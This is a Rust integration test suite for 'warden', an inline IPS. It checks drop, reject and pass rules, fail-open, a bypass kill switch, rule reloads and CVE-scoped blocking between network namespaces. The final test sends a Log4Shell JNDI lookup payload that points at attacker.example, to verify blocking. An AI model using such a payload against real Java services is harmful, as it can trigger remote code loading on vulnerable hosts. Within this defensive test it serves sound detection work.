//! Inline IPS over AF_PACKET with real traffic: a client and a server in
//! their own network namespaces, joined only through warden's interface
//! pair (`-Q -i A:B`) in a third namespace:
//!
//! ```text
//! client ns: c0 (10.x.y.1) ── veth ── A  [warden ns]  B ── veth ── s0 (10.x.y.2) :server ns
//! ```
//!
//! The server and the client are threads of this test that enter their
//! namespace (`setns` affects only the calling thread) and speak HTTP over
//! the kernel's TCP stack. Needs root and iproute2 (`ip`); without them
//! each test says why and passes without checking anything. Every wait is
//! bounded, and namespaces and the warden process are removed when a test
//! ends, even when it fails.

#[macro_use]
mod common;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use common::netns::*;
use serde_json::Value;

#[test]
fn benign_requests_cross_the_bridge_and_a_drop_rule_blocks_its_uri() {
    require_netns!();
    let t = Topology::new(Link::Bridged);
    let server = Server::start(&t);
    let w = start_inline(
        &t,
        "drop http any any -> any any (msg:\"blocked uri\"; http.uri; content:\"/forbidden\"; sid:1001;)\n",
        "drop",
    );
    assert!(
        w.stderr().contains("memory-mapped rings"),
        "frames are read from the TPACKET_V2 rings: {}",
        w.stderr()
    );
    match get(&t, "/hello") {
        Outcome::Response(200, _) => {}
        other => panic!("benign request through the bridge: {other:?}"),
    }
    // a transfer of several MB (segmentation offload, partial checksums)
    match get(&t, "/big") {
        Outcome::Response(200, n) => assert_eq!(n, BIG),
        other => panic!("large transfer through the bridge: {other:?}"),
    }
    let blocked = get(&t, "/forbidden");
    assert!(
        matches!(blocked, Outcome::TimedOut),
        "a dropped request must get no answer, got {blocked:?}"
    );
    assert!(server.saw("/hello") && server.saw("/big"));
    assert!(
        !server.saw("/forbidden"),
        "the server saw the dropped request"
    );
    // later connections still work: only the offending flow is dropped
    assert!(matches!(get(&t, "/hello"), Outcome::Response(200, _)));
    let ev = w.stop();
    let alerts = of_type(&ev, "alert");
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    assert_eq!(alerts[0]["alert"]["signature_id"], 1001);
    assert_eq!(alerts[0]["alert"]["action"], "blocked");
    assert!(!of_type(&ev, "drop").is_empty());
    // periodic stats events may come first; the last is written at shutdown
    let stats = of_type(&ev, "stats");
    let last = stats.last().expect("stats written at shutdown");
    assert!(last["stats"]["ips"]["blocked"].as_u64().unwrap_or(0) >= 1);
}

#[test]
fn a_reject_rule_resets_the_client_within_a_second() {
    require_netns!();
    let t = Topology::new(Link::Bridged);
    let server = Server::start(&t);
    let w = start_inline(
        &t,
        "reject http any any -> any any (msg:\"rejected uri\"; http.uri; content:\"/reject-me\"; sid:1002;)\n",
        "reject",
    );
    assert!(matches!(get(&t, "/hello"), Outcome::Response(200, _)));
    match get(&t, "/reject-me") {
        Outcome::Reset(after) => assert!(after < Duration::from_secs(1), "reset after {after:?}"),
        other => panic!("a rejected request must see a reset, got {other:?}"),
    }
    assert!(!server.saw("/reject-me"));
    let ev = w.stop();
    let alerts = of_type(&ev, "alert");
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0]["alert"]["action"], "blocked");
    let stats = of_type(&ev, "stats");
    assert_eq!(stats.last().unwrap()["stats"]["ips"]["rejected"], 1);
}

#[test]
fn a_pass_rule_ahead_of_a_drop_rule_lets_the_request_through() {
    require_netns!();
    let t = Topology::new(Link::Bridged);
    let server = Server::start(&t);
    let w = start_inline(
        &t,
        "drop http any any -> any any (msg:\"drop admin\"; http.uri; content:\"/admin\"; sid:1003;)\n\
         pass http any any -> any any (msg:\"allow admin/status\"; http.uri; content:\"/admin/status\"; sid:1004;)\n",
        "pass",
    );
    match get(&t, "/admin/status") {
        Outcome::Response(200, _) => {}
        other => panic!("the pass rule must let the request through: {other:?}"),
    }
    assert!(server.saw("/admin/status"));
    assert!(matches!(get(&t, "/admin/secret"), Outcome::TimedOut));
    assert!(!server.saw("/admin/secret"));
    let ev = w.stop();
    let sids: Vec<u64> = of_type(&ev, "alert")
        .iter()
        .filter_map(|a| a["alert"]["signature_id"].as_u64())
        .collect();
    // the drop rule fired once: on /admin/secret, not on the passed request
    assert_eq!(sids.iter().filter(|s| **s == 1003).count(), 1, "{sids:?}");
}

#[test]
fn passive_mode_alerts_on_drop_rules_without_blocking() {
    require_netns!();
    let t = Topology::new(Link::Direct);
    let server = Server::start(&t);
    let sock = control_socket("passive");
    let w = Warden::start(
        &t.client_ns,
        &["-i", &t.client_if, "--unix-socket", sock.to_str().unwrap()],
        "drop http any any -> any any (msg:\"would block\"; http.uri; content:\"/forbidden\"; sid:1005;)\n",
        "passive",
    );
    match get(&t, "/forbidden") {
        Outcome::Response(200, _) => {}
        other => panic!("passive mode must not block: {other:?}"),
    }
    assert!(server.saw("/forbidden"));
    // warden is not in the path: there is nothing to bypass
    let (code, _, err) = ctl(&sock, &["bypass", "on"]);
    assert_eq!(code, 1, "refused: {err}");
    assert!(err.contains("IDS mode"), "{err}");
    let (code, out, _) = ctl(&sock, &["version"]);
    assert_eq!(code, 0);
    assert_eq!(serde_json::from_str::<Value>(&out).unwrap()["mode"], "ids");
    let ev = w.stop();
    let alerts = of_type(&ev, "alert");
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    assert_eq!(alerts[0]["alert"]["action"], "allowed");
    assert!(of_type(&ev, "drop").is_empty());
}

/// The VLAN id of a tagged frame (802.1Q tag in the frame bytes).
fn vlan_of(frame: &[u8]) -> Option<u16> {
    (frame.len() >= 16 && frame[12..14] == [0x81, 0x00])
        .then(|| u16::from_be_bytes([frame[14], frame[15]]) & 0x0fff)
}

#[test]
fn vlan_tagged_frames_cross_with_their_tag() {
    use warden_capture::afpacket::{restore_vlan_tag, wait_readable, VnetHdr};
    use warden_capture::AfPacket;
    require_netns!();
    let t = Topology::new(Link::Bridged);
    let w = start_inline(
        &t,
        "alert udp any any -> any any (msg:\"tagged\"; content:\"vlan-hello\"; sid:1006;)\n\
         drop udp any any -> any any (msg:\"tagged drop\"; content:\"vlan-drop\"; sid:1008;)\n",
        "vlan",
    );
    // the receiver: a packet socket on the server's interface; the kernel
    // moves the tag into metadata on receive, restore_vlan_tag puts it back
    let (ns, dev) = (t.server_ns.clone(), t.server_if.clone());
    let (ready_tx, ready_rx) = std::sync::mpsc::channel();
    let receiver = std::thread::spawn(move || {
        enter_netns(&ns);
        let sock = AfPacket::open(&dev, true).expect("packet socket on the server side");
        ready_tx.send(()).expect("ready");
        let mut buf = vec![0u8; 70_000];
        let mut frames = Vec::new();
        let mut ready = Vec::new();
        let until = Instant::now() + Duration::from_millis(1500);
        while Instant::now() < until {
            let _ = wait_readable(&[sock.raw_fd()], &mut ready, 50);
            while let Ok(Some(m)) = sock.recv(&mut buf) {
                let (mut off, mut len) = (m.offset, m.len);
                if let Some(tci) = m.vlan_tci {
                    if let Some(r) = restore_vlan_tag(&mut buf, off, len, m.vlan_tpid, tci) {
                        (off, len) = r;
                    }
                }
                frames.push(buf[off..off + len].to_vec());
            }
        }
        frames
    });
    ready_rx
        .recv_timeout(Duration::from_secs(5))
        .expect("receiver up");
    let (ns, dev) = (t.client_ns.clone(), t.client_if.clone());
    let (src, dst) = (
        t.client_ip.parse().expect("ip"),
        t.server_ip.parse().expect("ip"),
    );
    std::thread::spawn(move || {
        enter_netns(&ns);
        let sock = AfPacket::open(&dev, true).expect("packet socket on the client side");
        let b = warden_packet::build::Builder::new().vlan(100);
        for payload in [&b"vlan-hello"[..], b"vlan-drop", b"vlan-drop"] {
            let frame = b.udp(src, dst, 5000, 6000, payload);
            sock.send(&VnetHdr::default(), &frame).expect("send");
            std::thread::sleep(Duration::from_millis(30));
        }
    })
    .join()
    .expect("sender");
    let frames = receiver.join().expect("receiver");
    let has = |f: &[u8], text: &[u8]| f.windows(text.len()).any(|w| w == text);
    let hello: Vec<&Vec<u8>> = frames.iter().filter(|f| has(f, b"vlan-hello")).collect();
    assert_eq!(hello.len(), 1, "the tagged frame crossed once");
    assert_eq!(vlan_of(hello[0]), Some(100), "with its tag");
    assert!(
        !frames.iter().any(|f| has(f, b"vlan-drop")),
        "dropped frames stay dropped"
    );
    let ev = w.stop();
    // a content found in one UDP datagram drops that datagram, not the
    // flow (Suricata 8): each vlan-drop datagram is inspected and blocked
    let alerts = of_type(&ev, "alert");
    assert_eq!(alerts.len(), 3, "{alerts:?}");
    for a in &alerts {
        assert_eq!(a["vlan"], serde_json::json!([100]));
    }
    assert_eq!(alerts[1]["alert"]["action"], "blocked");
}

/// Pids the fail-open supervisor reported for its engines, in order.
fn engine_pids(stderr: &str) -> Vec<i32> {
    stderr
        .lines()
        .filter_map(|l| l.split("engine pid ").nth(1))
        .filter_map(|p| p.trim().parse().ok())
        .collect()
}

#[test]
fn with_fail_open_a_killed_engine_leaves_traffic_flowing_and_comes_back() {
    require_netns!();
    let tc_ok = Command::new("tc")
        .arg("-V")
        .output()
        .is_ok_and(|o| o.status.success());
    if !tc_ok {
        eprintln!("skipped: fail-open test needs tc (iproute2)");
        return;
    }
    let t = Topology::new(Link::Bridged);
    let server = Server::start(&t);
    let mut args = inline_args(&t);
    args.push("--fail-open".into());
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let w = Warden::start(
        &t.warden_ns,
        &args,
        "drop http any any -> any any (msg:\"blocked uri\"; http.uri; content:\"/forbidden\"; sid:1007;)\n",
        "failopen",
    );
    assert!(matches!(get(&t, "/hello"), Outcome::Response(200, _)));
    assert!(matches!(get(&t, "/forbidden"), Outcome::TimedOut));
    let pids = engine_pids(&w.stderr());
    assert_eq!(pids.len(), 1, "{}", w.stderr());
    // what the OOM killer would do to the process holding the rules
    // SAFETY: signalling the engine process the supervisor reported.
    unsafe {
        libc::kill(pids[0], libc::SIGKILL);
    }
    let killed = Instant::now();
    std::thread::sleep(Duration::from_millis(50));
    let mut through = None;
    while killed.elapsed() < Duration::from_secs(2) {
        if let Outcome::Response(200, _) = get_quick(&t, "/after-kill") {
            through = Some(killed.elapsed());
            break;
        }
    }
    let after = through.unwrap_or_else(|| panic!("no connection within 2 s: {}", w.stderr()));
    eprintln!("new connection worked {after:?} after the engine was killed");
    assert!(server.saw("/after-kill"));
    // the engine is restarted and inspection comes back
    let deadline = Instant::now() + Duration::from_secs(15);
    while w.stderr().matches("bypass off").count() < 2 {
        assert!(Instant::now() < deadline, "engine not back: {}", w.stderr());
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(engine_pids(&w.stderr()).len(), 2);
    // (the first /forbidden request may reach the server while the
    // bypass is on: its client keeps retransmitting it; a new request
    // must not)
    assert!(matches!(get(&t, "/forbidden-again"), Outcome::TimedOut));
    assert!(!server.saw("/forbidden-again"));
    let ev = w.stop();
    assert!(
        of_type(&ev, "alert").len() >= 2,
        "alerts of both engines kept"
    );
}

/// A GET with a short (300 ms) budget, for polling.
fn get_quick(t: &Topology, path: &str) -> Outcome {
    let (ns, addr, path) = (t.client_ns.clone(), t.server_addr(), path.to_string());
    std::thread::spawn(move || {
        enter_netns(&ns);
        let Ok(mut s) = TcpStream::connect_timeout(&addr, Duration::from_millis(300)) else {
            return Outcome::TimedOut;
        };
        let _ = s.set_read_timeout(Some(Duration::from_millis(300)));
        let req = format!("GET {path} HTTP/1.1\r\nHost: test\r\n\r\n");
        if s.write_all(req.as_bytes()).is_err() {
            return Outcome::TimedOut;
        }
        let mut got = Vec::new();
        let _ = s.read_to_end(&mut got);
        parse_response(&got).unwrap_or(Outcome::TimedOut)
    })
    .join()
    .expect("client thread")
}

#[test]
fn the_kill_switch_lets_blocked_traffic_through_uninspected_and_off_blocks_it_again() {
    require_netns!();
    let tc_ok = Command::new("tc")
        .arg("-V")
        .output()
        .is_ok_and(|o| o.status.success());
    kill_switch(if tc_ok {
        BypassPath::Kernel
    } else {
        BypassPath::Warden
    });
}

#[test]
fn without_tc_the_kill_switch_has_warden_forward_frames_uninspected() {
    require_netns!();
    kill_switch(BypassPath::Warden);
}

/// Who forwards the traffic while the kill switch is on.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum BypassPath {
    /// tc mirred redirect in the kernel.
    Kernel,
    /// warden itself (no tc found).
    Warden,
}

fn kill_switch(path: BypassPath) {
    let t = Topology::new(Link::Bridged);
    let server = Server::start(&t);
    let name = format!("killswitch-{path:?}");
    let sock = control_socket(&name);
    let mut args = inline_args(&t);
    args.extend(["--unix-socket".into(), sock.display().to_string()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    // no tc on the PATH: warden must forward by itself
    let env: &[(&str, &str)] = match path {
        BypassPath::Kernel => &[],
        BypassPath::Warden => &[("PATH", "/nonexistent")],
    };
    let mut w = Warden::start_env(
        &t.warden_ns,
        &args,
        "drop http any any -> any any (msg:\"blocked uri\"; http.uri; content:\"/forbidden\"; sid:1009;)\n",
        &name,
        env,
    );
    let (code, out, err) = ctl(&sock, &["version"]);
    assert_eq!(code, 0, "{err}");
    let v: Value = serde_json::from_str(&out).expect("version is JSON");
    assert_eq!(v["mode"], "inline");
    assert_eq!(v["version"], env!("CARGO_PKG_VERSION"));

    assert!(matches!(get(&t, "/forbidden-1"), Outcome::TimedOut));
    assert!(!server.saw("/forbidden-1"));

    let (code, out, err) = ctl(&sock, &["bypass", "on"]);
    assert_eq!(code, 0, "bypass on: {err}");
    let v: Value = serde_json::from_str(&out).expect("bypass reply is JSON");
    assert_eq!(v["bypass"], "on");
    assert_eq!(v["changed"], true);
    let expected = match path {
        BypassPath::Kernel => "kernel (tc mirred)",
        BypassPath::Warden => "warden (uninspected)",
    };
    assert_eq!(v["path"], expected, "{v}");
    match get(&t, "/forbidden-2") {
        Outcome::Response(200, _) => {}
        other => panic!("with the kill switch on the drop rule must not apply: {other:?}"),
    }
    assert!(server.saw("/forbidden-2"));
    // a large transfer crosses too, whole
    assert!(matches!(get(&t, "/big"), Outcome::Response(200, n) if n == BIG));
    // asking again changes nothing
    let (code, out, _) = ctl(&sock, &["bypass", "on"]);
    assert_eq!(code, 0);
    assert_eq!(
        serde_json::from_str::<Value>(&out).unwrap()["changed"],
        false
    );

    let (code, out, err) = ctl(&sock, &["bypass", "off"]);
    assert_eq!(code, 0, "bypass off: {err}");
    assert_eq!(
        serde_json::from_str::<Value>(&out).unwrap()["bypass"],
        "off"
    );
    assert!(matches!(get(&t, "/forbidden-3"), Outcome::TimedOut));
    assert!(!server.saw("/forbidden-3"));
    assert!(matches!(get(&t, "/hello"), Outcome::Response(200, _)));

    // a refused command exits non-zero with the reason
    let (code, _, err) = ctl(&sock, &["bypass", "maybe"]);
    assert_eq!(code, 1);
    assert!(err.contains("on or off"), "{err}");
    let (code, _, err) = ctl(&sock, &["no-such-command"]);
    assert_eq!(code, 1, "{err}");

    // shutdown stops warden cleanly: stats written, socket removed
    let (code, _, err) = ctl(&sock, &["shutdown"]);
    assert_eq!(code, 0, "{err}");
    let status = w
        .exited(Duration::from_secs(5))
        .unwrap_or_else(|| panic!("warden still running after shutdown: {}", w.stderr()));
    assert!(status.success(), "{}", w.stderr());
    assert!(!sock.exists(), "control socket removed at exit");
    let (code, _, _) = ctl(&sock, &["version"]);
    assert_eq!(code, 2, "nobody answers any more");
    let ev = events(&w.log_dir.join("out"));
    let urls: Vec<&str> = of_type(&ev, "alert")
        .iter()
        .filter_map(|a| a["http"]["url"].as_str())
        .collect();
    // inspected before and after, not while bypassed
    assert_eq!(urls, ["/forbidden-1", "/forbidden-3"], "{ev:?}");
    assert!(!of_type(&ev, "stats").is_empty());
    assert!(w.stderr().contains("kill switch off"));
}

/// What a UDP probe saw while it ran.
struct ProbeResult {
    sent: u32,
    answered: u32,
    slowest: Duration,
}

/// Echoes UDP datagrams on the server's address (port 9999) until `stop`.
fn udp_echo(t: &Topology, stop: Arc<AtomicBool>) -> JoinHandle<()> {
    let (ns, ip) = (t.server_ns.clone(), t.server_addr().ip());
    std::thread::spawn(move || {
        enter_netns(&ns);
        let s = std::net::UdpSocket::bind((ip, 9999)).expect("bind echo");
        let _ = s.set_read_timeout(Some(Duration::from_millis(50)));
        let mut buf = [0u8; 64];
        while !stop.load(Ordering::Relaxed) {
            if let Ok((n, from)) = s.recv_from(&mut buf) {
                let _ = s.send_to(&buf[..n], from);
            }
        }
    })
}

/// Sends a numbered datagram every 5 ms from the client and waits for its
/// echo (250 ms at most), until `stop`.
fn udp_probe(t: &Topology, stop: Arc<AtomicBool>) -> JoinHandle<ProbeResult> {
    let (ns, ip) = (t.client_ns.clone(), t.server_addr().ip());
    std::thread::spawn(move || {
        enter_netns(&ns);
        let s = std::net::UdpSocket::bind("0.0.0.0:0").expect("bind probe");
        s.connect((ip, 9999)).expect("connect probe");
        let _ = s.set_read_timeout(Some(Duration::from_millis(250)));
        let mut r = ProbeResult {
            sent: 0,
            answered: 0,
            slowest: Duration::ZERO,
        };
        let mut buf = [0u8; 64];
        while !stop.load(Ordering::Relaxed) {
            r.sent += 1;
            let seq = r.sent.to_be_bytes();
            let at = Instant::now();
            let _ = s.send(&seq);
            // skip late echoes of earlier datagrams
            while let Ok(n) = s.recv(&mut buf) {
                if buf[..n] == seq {
                    r.answered += 1;
                    r.slowest = r.slowest.max(at.elapsed());
                    break;
                }
            }
            std::thread::sleep(Duration::from_millis(5));
        }
        r
    })
}

/// Resident memory of a process, in KiB.
fn rss_kib(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or(0)
}

#[test]
fn reloads_swap_good_rulesets_and_refuse_broken_ones_while_traffic_flows() {
    require_netns!();
    let t = Topology::new(Link::Bridged);
    let server = Server::start(&t);
    let drop_uri = |uri: &str, sid: u32| {
        format!("drop http any any -> any any (msg:\"blocked {uri}\"; http.uri; content:\"{uri}\"; sid:{sid};)\n")
    };
    let w = start_inline(&t, &drop_uri("/one", 1), "reload");
    let pid = w.child.as_ref().expect("running").id();
    let rules = w.log_dir.join("test.rules");
    assert!(matches!(get(&t, "/one"), Outcome::TimedOut));
    assert!(matches!(get(&t, "/two"), Outcome::Response(200, _)));

    let stop = Arc::new(AtomicBool::new(false));
    // the echo stops after the probe, so the probe's last datagram is
    // answered too
    let echo_stop = Arc::new(AtomicBool::new(false));
    let echo = udp_echo(&t, Arc::clone(&echo_stop));
    let probe = udp_probe(&t, Arc::clone(&stop));
    std::thread::sleep(Duration::from_millis(200));
    let rss_before = rss_kib(pid);
    let (mut live, mut refused) = (0, 0);
    for i in 0..20 {
        let good = i % 2 == 0;
        let text = if good {
            // alternately block /two or /one
            drop_uri(if i % 4 == 0 { "/two" } else { "/one" }, 100 + i)
        } else {
            format!(
                "{}alert tcp any any -> any any (msg:\"broken\"; pcre:\"/(/\"; sid:{};)\n",
                drop_uri("/three", 200 + i),
                300 + i
            )
        };
        std::fs::write(&rules, text).expect("write rules");
        // SAFETY: signalling the warden child by its pid.
        unsafe {
            libc::kill(pid as i32, libc::SIGUSR2);
        }
        if good {
            live += 1;
        } else {
            refused += 1;
        }
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let e = w.stderr();
            if e.matches("is live").count() == live
                && e.matches("reload refused").count() == refused
            {
                break;
            }
            assert!(Instant::now() < deadline, "reload {i} not done: {e}");
            std::thread::sleep(Duration::from_millis(20));
        }
        if i % 4 == 0 {
            assert!(
                matches!(get(&t, "/two"), Outcome::TimedOut),
                "reload {i}: /two blocked"
            );
            assert!(matches!(get(&t, "/one"), Outcome::Response(200, _)));
        }
        if i % 4 == 1 {
            // the broken ruleset was refused: /two is still the one blocked
            assert!(
                matches!(get(&t, "/two"), Outcome::TimedOut),
                "reload {i}: refused"
            );
            assert!(matches!(get(&t, "/three"), Outcome::Response(200, _)));
        }
    }
    std::thread::sleep(Duration::from_millis(200));
    let rss_after = rss_kib(pid);
    stop.store(true, Ordering::Relaxed);
    let r = probe.join().expect("probe");
    echo_stop.store(true, Ordering::Relaxed);
    echo.join().expect("echo");
    let err = w.stderr();
    eprintln!(
        "reloads: {live} live, {refused} refused; probe {} sent, {} answered, slowest {:?}; RSS {rss_before} KiB before, {rss_after} KiB after",
        r.sent, r.answered, r.slowest
    );
    assert!(
        err.contains("reload refused: 1 invalid rule(s), running ruleset unchanged"),
        "{err}"
    );
    assert!(err.contains("pcre"), "the reason names the rule: {err}");
    assert_eq!(r.answered, r.sent, "no datagram lost across 20 reloads");
    assert!(
        r.slowest < Duration::from_millis(100),
        "slowest echo {:?}",
        r.slowest
    );
    assert!(
        rss_after < rss_before + 16 * 1024,
        "memory back to its level: {rss_before} KiB before, {rss_after} KiB after"
    );
    assert!(server.saw("/three"), "a refused ruleset never applied");
    let ev = w.stop();
    assert!(!of_type(&ev, "alert").is_empty());
}

/// Asset-aware scoping inline: the server namespace holds two hosts, one
/// the inventory marks vulnerable to the rule's CVE and one patched; the
/// CVE drop rule blocks the exploit toward the first and only alerts
/// toward the second, whose request succeeds.
#[test]
fn a_cve_scoped_drop_blocks_toward_the_vulnerable_host_and_alerts_toward_the_patched_one() {
    require_netns!();
    let t = Topology::new(Link::Bridged);
    let patched_ip = format!(
        "{}.3",
        t.server_ip.rsplit_once('.').expect("IPv4 address").0
    );
    ip(&[
        "-n",
        &t.server_ns,
        "addr",
        "add",
        &format!("{patched_ip}/24"),
        "dev",
        &t.server_if,
    ]);
    let vulnerable = Server::start(&t);
    let patched_addr: SocketAddr = format!("{patched_ip}:{SERVER_PORT}").parse().unwrap();
    let patched = Server::start_at(&t, patched_addr);
    let inventory = std::env::temp_dir().join(format!(
        "warden-inline-{}-scope-assets.yaml",
        std::process::id()
    ));
    std::fs::write(
        &inventory,
        format!(
            "assets:\n  - address: {}\n    vulnerable: [CVE-2021-44228]\n  - address: {patched_ip}\n    patched: [CVE-2021-44228]\n",
            t.server_ip
        ),
    )
    .unwrap();
    let mut args = inline_args(&t);
    args.extend(["--inventory".into(), inventory.display().to_string()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let w = Warden::start(
        &t.warden_ns,
        &args,
        "drop http any any -> any any (msg:\"log4j jndi lookup\"; http.uri; content:\"${jndi:\"; metadata: cve CVE_2021_44228; sid:1101;)\n",
        "scope",
    );
    let exploit = "/?q=${jndi:ldap://attacker.example/a}";
    let blocked = get(&t, exploit);
    assert!(
        matches!(blocked, Outcome::TimedOut),
        "toward the vulnerable host the exploit must get no answer, got {blocked:?}"
    );
    assert!(
        !vulnerable.saw(exploit),
        "the vulnerable host saw the exploit"
    );
    match get_at(&t, patched_addr, exploit) {
        Outcome::Response(200, _) => {}
        other => panic!("toward the patched host the request must succeed: {other:?}"),
    }
    assert!(patched.saw(exploit));
    let ev = w.stop();
    let _ = std::fs::remove_file(&inventory);
    let alerts = of_type(&ev, "alert");
    let toward = |host: &str| {
        alerts
            .iter()
            .find(|a| a["dest_ip"] == host)
            .unwrap_or_else(|| panic!("an alert toward {host}: {alerts:?}"))
    };
    let v = toward(&t.server_ip);
    assert_eq!(v["alert"]["action"], "blocked");
    assert_eq!(v["alert"]["scope"]["decision"], "enforce");
    assert_eq!(
        v["alert"]["scope"]["reason"],
        "vulnerable to CVE-2021-44228"
    );
    let p = toward(&patched_ip);
    assert_eq!(p["alert"]["action"], "allowed");
    assert_eq!(p["alert"]["scope"]["decision"], "alert-only");
    assert_eq!(p["alert"]["scope"]["reason"], "patched CVE-2021-44228");
    assert!(of_type(&ev, "drop")
        .iter()
        .all(|d| d["dest_ip"] != patched_ip.as_str()));
}
